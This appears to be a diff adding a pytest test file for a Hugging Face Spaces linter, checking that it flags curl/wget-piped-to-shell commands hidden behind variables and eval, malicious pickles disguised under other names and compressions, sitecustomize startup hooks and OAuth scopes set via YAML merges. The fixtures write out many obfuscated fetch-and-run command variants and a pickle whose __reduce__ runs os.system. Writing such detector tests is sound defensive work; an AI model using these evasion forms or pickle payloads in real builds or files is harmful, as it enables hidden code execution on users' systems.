@@ -1,0 +1,162 @@
+"""Commands behind variables, pickles under any name, hooks as packages, settings by a merge: what they do counts."""
+
+from __future__ import annotations
+
+import bz2
+import gzip
+import io
+import lzma
+import pickle
+import zipfile
+import zlib
+
+import pytest
+from hf_lint.pipeline.engine import check_space
+from support import plan, space_of
+
+URL = "https://example.com/i.sh"
+DOCKER = "---\nsdk: docker\n---\n"
+
+
+class Harmful:
+    """Calls `os.system` when it is loaded."""
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        import os
+
+        return os.system, ("id",)
+
+
+def rules_of(files: dict[str, str | bytes], *select: str) -> set[str]:
+    report = check_space(space_of({"README.md": DOCKER, **files}), plan(*select))
+    assert not report.errors
+    return {f"{finding.rule} {finding.severity}" for finding in report.findings}
+
+
+@pytest.mark.parametrize(
+    "lines",
+    [
+        f'ARG C="curl -s {URL}"\nARG S=sh\nRUN $C | $S',
+        f"ENV F=curl\nRUN ${{F}} {URL} | sh",
+        f'ARG A=curl\nARG B="$A -s {URL}"\nRUN $B | bash',
+        f"RUN a=cu; b=rl; $a$b -s {URL} | sh",
+        f"RUN S=sh; curl {URL} | $S",
+        f"RUN curl {URL} | ${{SHELL:-sh}}",
+        f'RUN export C="curl -s {URL}" && $C | sh',
+        f'RUN C="curl -s {URL} | sh"; eval "$C"',
+        f'RUN C="curl -s {URL} | sh" && sh -c "$C"',
+        f'RUN eval "$(curl -s {URL})"',
+        f"RUN eval curl -s {URL} '|' sh",
+        f'RUN X=$(curl -s {URL}); eval "$X"',
+        f'RUN X=`curl -s {URL}`; sh -c "$X"',
+        f"RUN $(echo curl) {URL} | sh",
+        f"RUN busybox wget -O- {URL} | busybox sh",
+        f"RUN curl {URL} | /bin/busybox ash",
+        f"RUN wget -qO /tmp/x {URL} && P=/tmp/x && sh $P",
+    ],
+)
+def test_a_script_from_the_network_behind_a_variable(lines: str) -> None:
+    assert rules_of({"Dockerfile": f"FROM python:3.12\n{lines}\n"}, "remote-script") == {"remote-script high"}
+
+
+@pytest.mark.parametrize(
+    "lines",
+    [
+        f"ARG C=curl\nRUN $C -o /tmp/a {URL}",
+        f"RUN a=curl; '$a' {URL} | sh",
+        'RUN C="echo hello"; eval "$C" | sh',
+        f'RUN echo "\\$C {URL} | sh"',
+        "ARG S=sh\nRUN cat a.sh | $S",
+    ],
+)
+def test_variables_that_hide_nothing(lines: str) -> None:
+    assert rules_of({"Dockerfile": f"FROM python:3.12\nARG C=curl\n{lines}\n"}, "remote-script") == set()
+
+
+def test_variables_that_grow_without_end_are_bounded() -> None:
+    grow = "\n".join(f'ARG A{n}="{f"$A{n - 1}" * 50}"' for n in range(1, 8))
+    assert (
+        rules_of({"Dockerfile": f"FROM python:3.12\nARG A0=x\n{grow}\nRUN {'$A7 ' * 2000}\n"}, "remote-script") == set()
+    )
+
+
+def zip_of(name: str, data: bytes) -> bytes:
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr(name, data)
+    return stream.getvalue()
+
+
+OLD, NEW = (pickle.dumps(Harmful(), protocol) for protocol in (0, 4))
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("config.json", OLD),
+        ("notes.txt", OLD),
+        ("m.dat", OLD),
+        ("weights", pickle.dumps(Harmful(), 1)),
+        ("a.json", b"S'text'\n0" + OLD),
+        ("broken.txt", OLD[:-1] + b"!broken end\n"),
+        ("i.txt", b"(S'id'\nios\nsystem\n."),
+        ("m.pkl.bz2", bz2.compress(NEW)),
+        ("m.pkl.xz", lzma.compress(NEW)),
+        ("m.joblib.lzma", lzma.compress(NEW, lzma.FORMAT_ALONE)),
+        ("w.bz2", bz2.compress(OLD)),
+        ("x.dat", gzip.compress(NEW, mtime=0)),
+        ("y.dat", zlib.compress(NEW)),
+        ("nested.bz2", bz2.compress(gzip.compress(NEW, mtime=0))),
+        ("padded.gz", gzip.compress(NEW + b"0" * 300_000_000, 1, mtime=0)),
+        ("z.dat", zip_of("archive/data.pkl", NEW)),
+        ("old.zip", zip_of("a/first", OLD)),
+    ],
+)
+def test_a_pickle_is_known_under_any_name(name: str, data: bytes) -> None:
+    assert rules_of({name: data}, "committed-pickle") == {"committed-pickle critical"}
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("words.txt", b"abcde\nccc\nacme\nfoo (bar)\n"),
+        ("sums.txt", b"cos\nsin\ntan\n"),
+        ("rows.csv.gz", gzip.compress(b"a,b\n1,2\n", mtime=0)),
+        ("text.xz", lzma.compress(b"words")),
+        ("a.docx", zip_of("word/document.xml", b"<a/>")),
+        ("a.zip", zip_of("a.txt", b"(a) import\n")),
+    ],
+)
+def test_other_files_are_no_pickles(name: str, data: bytes) -> None:
+    assert rules_of({name: data}, "committed-pickle") == set()
+
+
+@pytest.mark.parametrize(
+    ("path", "found"),
+    [
+        ("sitecustomize.py", True),
+        ("sitecustomize/__init__.py", True),
+        ("src/usercustomize/__init__.py", True),
+        ("usercustomize.cpython-312-x86_64-linux-gnu.so", True),
+        ("sitecustomize.pyc", True),
+        ("sitecustomize/other.py", False),
+        ("mysitecustomize.py", False),
+        ("sitecustomize.md", False),
+    ],
+)
+def test_a_hook_of_every_start_in_any_form(path: str, found: bool) -> None:
+    assert bool(rules_of({path: b"import os\0" if path.endswith("so") else "import os\n"}, "startup-hook")) is found
+
+
+@pytest.mark.parametrize(
+    ("lines", "found"),
+    [
+        ("x: &b\n  hf_oauth_scopes: [manage-repos]\n<<: *b\n", True),
+        ("x: &b\n  hf_oauth_scopes: [manage-repos]\n<<: [*b]\n", True),
+        ("<<: {hf_oauth_scopes: [manage-repos]}\n", True),
+        ("hf_oauth_scopes: [email]\n<<: {hf_oauth_scopes: [manage-repos]}\n", False),
+    ],
+)
+def test_a_setting_of_the_card_by_a_merge(lines: str, found: bool) -> None:
+    card = f"---\nsdk: gradio\nhf_oauth: true\n{lines}---\n"
+    assert bool(rules_of({"README.md": card}, "broad-oauth-scope")) is found
